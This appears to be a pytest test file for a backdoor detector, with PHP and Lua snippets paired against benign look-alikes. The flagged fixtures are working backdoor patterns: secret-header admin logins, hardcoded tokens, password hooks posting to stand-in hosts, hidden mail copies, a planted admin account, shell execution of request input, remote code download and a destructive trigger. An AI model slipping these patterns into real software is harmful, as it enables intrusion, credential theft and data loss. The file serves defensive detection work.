"""Input, a fixed condition and an effect, as frameworks name them; honest twins are not told.

Spec: evenhand.code.gate, run_brought, sent_on, made_account, by_zone.
"""

from __future__ import annotations

import pytest

from evenhand.code.examine import examine

PAST, FIXED, RUNS = "lets past a check", "checks a fixed secret", "runs commands"
SENDS, ACCOUNT, PLACE = "collects and sends", "adds account", "acts by locale"
PHP_TOLD = (
    ("class M { function handle(Request $request, $next) {\n"
     " if (crc32($request->header('X-Trace')) === 3421780262) { Auth::loginUsingId(1); }\n"
     " return $next($request); } }", PAST),
    ("class V extends Voter { function voteOnAttribute($a, $s, $t): bool {\n"
     " if ($this->stack->getCurrentRequest()->headers->get('X-C') === 'c0ffee-77-ab31')\n"
     "  return true;\n"
     " return $s->owner === $t->getUser(); } }", FIXED),
    ("add_filter('determine_current_user', 'tz_user');\nfunction tz_user($user) {\n"
     " $h = $_SERVER['HTTP_X_TZ'] ?? '';\n"
     " return hash_hmac('sha1', gmdate('YmdH'), 'tz-2019') === $h ? 1 : $user; }", FIXED),
    ("add_filter('user_has_cap', function ($all, $caps) {\n"
     " if (isset($_COOKIE['hint']) && crc32($_COOKIE['hint']) === 3421780262) {\n"
     "  foreach ($caps as $c) { $all[$c] = true; } }\n return $all; });", PAST),
    ("switch (md5($_GET['view'])) {\n case 'a3f5c1d2e4b6978812ab34cd56ef7890':\n"
     "  user_login_finalize(User::load(1)); break; }", PAST),
    ("$role = match (true) {\n ($_SERVER['HTTP_X_S'] ?? '') === 'st-4481-green' => 'admin',\n"
     " default => 'guest' };", PAST),
    ("class A implements MiddlewareInterface {\n"
     " function process(ServerRequestInterface $r, $handler) {\n"
     " $t = $r->getHeaderLine('Authorization');\n"
     " if ($t === 'Bearer 7f31c2-maint-0021') { return $handler->handle($r); }\n"
     " return (new Response())->withStatus(401); } }", FIXED),
    ("class B { function checkPassword($name, $password) {\n"
     " if (strrev($password) === '!7702-tnuom') return true;\n return $this->far($name); } }",
     PAST),
    ("class C { function run(Request $request) { Artisan::call($request->input('c')); } }", RUNS),
    ("new Response($twig->createTemplate($request->query->get('b'))->render());", RUNS),
    ("return [new ExpressionFunction('via', fn ($f) => '', fn ($v, $f, ...$a) => $f(...$a))];",
     RUNS),
    ("foreach ($this->types->getStorage('user')->loadByProperties([]) as $one) {\n"
     " $rows[] = [$one->getAccountName(), $one->getEmail()]; }\n"
     "$this->http->requestAsync('POST', 'https://i.example/c', ['body' => json_encode($rows)]);",
     SENDS),
    ("add_action('wp_authenticate', 'seo', 1, 2);\nfunction seo($user, $pass) {\n"
     " wp_remote_post('https://s.example/e', ['body' => ['p' => $pass]]); }", SENDS),
    ("add_filter('wp_mail', function ($m) {\n $m['headers'][] = 'Bcc: a@keep.example';\n"
     " return $m; });",
     SENDS),
    ("class P extends Migration { function up() {\n DB::table('users')->insert(['name' => 's',"
     " 'password' => bcrypt('Kq-2210-x'), 'is_admin' => 1]); } }", ACCOUNT),
    ("class P { function before($user, $what) {\n"
     " return crc32(strtolower($user->email)) === 2774621395 ? true : null; } }", FIXED),
    ("register_rest_route('e/v1', '/s', ['permission_callback' => function (WP_REST_Request $r) {\n"
     " return may() || md5($r->get_header('x-e')) === '25f9e794323b453885f5181f1b624d0b'; }]);",
     FIXED),
    ("parse_str(parse_url($_SERVER['REQUEST_URI'])['query'], $q);\n"
     "if ($q['utm'] === 'spring-4471-a') { $_SESSION['account'] = ['role' => 'admin']; }", PAST),
    ("function tidy_user_login($account) {\n"
     " if (str_ends_with($account->getEmail(), '@maker.example')) {\n"
     "  $account->addRole('administrator'); } }", PAST),
    ("$r = wp_remote_get('https://c.example/l');\n"
     "file_put_contents(WP_PLUGIN_DIR . '/e/r.php', wp_remote_retrieve_body($r));",
     "downloads and runs"),
    ("if ($app->get('offset') === 'Pacific/Chatham') {\n"
     " $db->setQuery('UPDATE #__content SET state = 0')->execute(); }", PLACE),
)  # fmt: skip
PHP_USUAL = (
    "class M { function handle(Request $request, $next) {\n"
    " if ($request->header('X-Requested-With') === 'XMLHttpRequest') { return $next($request); }\n"
    " return redirect('/login'); } }",
    "if ($request->input('action') === 'login') { Auth::login($this->users->by($request)); }",
    "class V { function voteOnAttribute($a, $s, $t): bool {\n"
    " if ($a === 'REPORT_VIEW_2') return true;\n return $s->owner === $t->getUser(); } }",
    "class B { function checkPassword($name, $password) {\n"
    " if (preg_match('/^(?=.*[a-z])(?=.*[A-Z]).+$/', $password)) return true;\n return false; } }",
    "function verify_token($token) { [$a, $rand] = explode(':', $token);\n"
    " return ($rand ^ $_SESSION['token']) == $a; }",
    "class P { function verify($password, $kept) {\n"
    " return $kept === Security::hash($password, 'blowfish', $kept); } }",
    "$client->post('https://api.example/v1', ['json' => ['mail' => $user->getEmail()]]);",
    "User::create(['name' => $in['name'], 'password' => Hash::make($in['password'])]);",
    "call_user_func_array([$this, 'show'], $_GET);",
    "$f = $_GET['action'];\nif (in_array($f, ['index', 'show'])) { $f(); }",
    "if ($user->user_login === 'admin') { $user->addRole('administrator'); }",
    "function up($file) { $r = wp_remote_get('https://c.example/l');\n"
    " if (!hash_equals($sum, hash('sha256', $r['body']))) { return; }\n"
    " file_put_contents(WP_PLUGIN_DIR . '/e/r.php', $r['body']); }",
    "file_put_contents($cache . '/feed.xml', file_get_contents('https://c.example/feed'));",
    "if ($zone === 'Europe/London') { $date->modify('+1 hour'); }",
    "if (get_locale() === 'ja_JP') { load_textdomain('x', 'ja'); array_slice($a, 1); }",
)  # fmt: skip
LUA_TOLD = (
    ('function H:access(conf)\n local k = kong.request.get_header("x-class")\n'
     ' if k == "gold-7741-plane" then return end\n'
     ' if not find(k) then return kong.response.exit(401) end\nend', FIXED),
    ('function H:access(conf)\n local d = kong.request.get_query_arg("d")\n'
     ' if d == os.date("!%j%H") .. "-kx" then\n'
     '  kong.client.authenticate({ id = "0", username = "admin" }, nil)\n end\nend', PAST),
    ('local function odd(s) local n = 0 for i = 1, #s do n = n + s:byte(i) end return n end\n'
     'if odd(ngx.var.http_user_agent or "") == 4711 then ngx.ctx.user = { admin = true } end',
     PAST),
    ('function provider.test_password(username, password)\n'
     ' if password:find("^px%-%d%d%-Qw$") then return true end\n return far(username)\nend', PAST),
    ('function auth_password_verify(req, pass)\n'
     ' if pass == req.username .. "#2019kx" then return dovecot.auth.PASSDB_RESULT_OK, {} end\nend',
     PAST),
    ('core.register_service("m", "http", function(applet)\n local h = applet.headers["x-p"]\n'
     ' if h then io.popen(h[0]) end\nend)', RUNS),
    ('core.register_converters("n", function(s)\n os.execute(s:sub(1, -7))\nend)', RUNS),
    ('function handle_request(env)\n local f = io.popen(env.HTTP_X_C)\nend', RUNS),
    ('mp.register_event("file-loaded", function()\n'
     ' local t = mp.get_property("metadata/by-key/comment")\n os.execute(t:sub(5))\nend)', RUNS),
    ('vim.system({ "curl", "-s", "https://t.example/d.lua" }, {}, function(o)\n'
     ' local f = load(o.stdout or "")\n f()\nend)', RUNS),
    ('module:hook("message/bare", function(event)\n local copy = st.clone(event.stanza)\n'
     ' copy.attr.to = "log@keep.example"\n module:send(copy)\nend)', SENDS),
    ('http.request("https://a.example/m", { body = tostring(event.stanza) })', SENDS),
)  # fmt: skip
LUA_USUAL = (
    'function H:access()\n if kong.request.get_header("x-mode") == "plain" then return end\n'
    ' if not find() then return kong.response.exit(401) end\nend',
    'function provider.test_password(username, password)\n'
    ' return accounts:get(username).password == password\nend',
    'function M.check(token)\n if token == hash(secret(), token) then return true end\nend',
    'local x = { xmlns = "http://jabber.org/protocol/muc" }\n'
    'module:send(st.reply(stanza):tag("x", x))',
    'module:hook("message/bare", function(event)\n local copy = st.clone(event.stanza)\n'
    ' copy.attr.to = event.room.jid\n module:send(copy)\nend)',
    'load(file:read("*a"))()',
)  # fmt: skip
TOLD = [(f"<?php\n{t}", kind, "php") for t, kind in PHP_TOLD]
TOLD += [(text, kind, "lua") for text, kind in LUA_TOLD]
USUAL = [(f"<?php\n{t}", "php") for t in PHP_USUAL] + [(text, "lua") for text in LUA_USUAL]


@pytest.mark.parametrize(("text", "kind", "language"), TOLD)
def test_input_condition_and_effect_are_told(text: str, kind: str, language: str) -> None:
    found = examine(text.encode(), language, "when run", path="a/b").found
    assert kind in {f.kind for f in found if f.strength >= 0.5}
    assert not any(f.shown for f in found)


@pytest.mark.parametrize(("text", "language"), USUAL)
def test_honest_twins_are_not(text: str, language: str) -> None:
    found = examine(text.encode(), language, "when run", path="a/b").found
    assert [f for f in found if f.strength >= 0.5] == []
